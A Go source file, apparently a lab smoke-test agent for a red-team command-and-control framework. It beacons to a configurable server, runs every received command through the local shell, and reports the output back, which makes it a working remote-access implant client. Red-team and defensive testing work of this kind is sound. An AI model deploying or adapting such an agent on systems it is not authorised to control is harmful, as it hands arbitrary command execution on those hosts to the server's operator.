// Minimal end-to-end smoke agent for the RedQuill beacon protocol: polls for
// work, runs each command through the local shell, and reports results. Lab
// use only.
package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"log"
	"net/http"
	"os"
	"os/exec"
	"runtime"
	"time"
)

var (
	baseURL  = getenv("SERVER_URL", "http://localhost:8880/v1")
	agentKey = getenv("AGENT_KEY", "")
	group    = getenv("AGENT_GROUP", "smoke")
)

func getenv(k, def string) string {
	if v := os.Getenv(k); v != "" {
		return v
	}
	return def
}

type commandSpec struct {
	LinkID   string `json:"linkId"`
	Command  string `json:"command"`
	Executor string `json:"executor"`
}

type beaconResponse struct {
	AgentID  string        `json:"id"`
	Sleep    uint32        `json:"sleep"`
	Commands []commandSpec `json:"commands"`
}

func main() {
	hostname, _ := os.Hostname()
	agentID := ""

	for {
		resp := beacon(agentID, hostname)
		agentID = resp.AgentID
		for _, cmd := range resp.Commands {
			log.Printf("link %s: %s", cmd.LinkID, cmd.Command)
			out, err := exec.Command("sh", "-c", cmd.Command).CombinedOutput()
			report(agentID, cmd.LinkID, string(out), err == nil)
		}
		sleep := time.Duration(resp.Sleep) * time.Second
		if sleep <= 0 {
			sleep = 30 * time.Second
		}
		time.Sleep(sleep)
	}
}

func beacon(agentID, hostname string) beaconResponse {
	payload := map[string]any{
		"id":       agentID,
		"platform": runtime.GOOS,
		"hostname": hostname,
		"group":    group,
		"interval": 10,
	}
	var resp beaconResponse
	if err := post("/beacon", payload, &resp); err != nil {
		log.Fatalf("beacon: %v", err)
	}
	return resp
}

func report(agentID, linkID, output string, success bool) {
	payload := map[string]any{
		"id":      agentID,
		"linkId":  linkID,
		"output":  output,
		"success": success,
	}
	if err := post("/results", payload, nil); err != nil {
		log.Printf("report %s: %v", linkID, err)
	}
}

func post(path string, payload any, out any) error {
	body, err := json.Marshal(payload)
	if err != nil {
		return err
	}
	req, err := http.NewRequest(http.MethodPost, baseURL+path, bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	if agentKey != "" {
		req.Header.Set("X-Agent-Key", agentKey)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s: status %d", path, resp.StatusCode)
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	return nil
}
